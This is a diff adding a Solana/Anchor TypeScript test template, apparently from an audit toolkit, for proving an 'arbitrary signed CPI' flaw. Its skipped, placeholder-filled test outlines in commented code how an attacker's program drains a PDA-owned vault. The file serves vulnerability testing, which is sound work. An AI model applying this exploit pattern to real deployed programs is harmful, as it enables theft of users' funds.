@@ -0,0 +1,48 @@
+// PoC Template: Arbitrary Signed CPI (Anchor TypeScript test)
+// Vulnerability: A PDA signs a CPI whose program, signer seeds or data the caller chooses
+// Chain: Solana/Anchor, run with `anchor test`
+//
+// The attacker routes the PDA-signed CPI through their own program, which
+// moves the vault's tokens with the signature it is handed; see
+// arbitrary_cpi.rs for the vulnerable pattern and the fix.
+
+import * as anchor from "@coral-xyz/anchor";
+import { BN, Program } from "@coral-xyz/anchor";
+import { Keypair, LAMPORTS_PER_SOL, PublicKey } from "@solana/web3.js";
+import { assert } from "chai";
+
+// ============================================================
+// EXPLOIT TEST (Mocha)
+// ============================================================
+describe("arbitrary_cpi exploit", () => {
+  const provider = anchor.AnchorProvider.env();
+  anchor.setProvider(provider);
+  const program = anchor.workspace.{{PROGRAM_NAME=my_program|camel}} as Program;
+  const attacker = Keypair.generate();
+
+  before(async () => {
+    assert.ok(program.programId.equals(new PublicKey("{{PROGRAM_ID}}")), "workspace program is not the target");
+    const signature = await provider.connection.requestAirdrop(attacker.publicKey, 10 * LAMPORTS_PER_SOL);
+    await provider.connection.confirmTransaction({ signature, ...(await provider.connection.getLatestBlockhash()) });
+  });
+
+  // Drop .skip once the steps below are filled in
+  it.skip("drains the vault through a PDA signature handed to the attacker's program", async () => {
+    // 1. The PDA-owned vault, and an attacker program that, on any instruction,
+    //    transfers the vault's tokens to the attacker signed by the vault authority it was handed
+    // const vault = new PublicKey("{{VAULT_ACCOUNT}}");
+    // const evil = anchor.workspace.AttackerProgram.programId;
+    // const before = await provider.connection.getTokenAccountBalance(vault);
+
+    // 2. Route through the attacker program instead of the token program
+    // await program.methods
+    //   .routeSwap(new BN(1))
+    //   .accounts({ swapProgram: evil, vault, destination: attackerToken })
+    //   .signers([attacker])
+    //   .rpc();
+
+    // 3. Should have failed; the attacker program drained the vault with the PDA signature
+    // assert.equal((await provider.connection.getTokenAccountBalance(vault)).value.amount, "0",
+    //   "Exploit: PDA signed for the attacker's program");
+  });
+});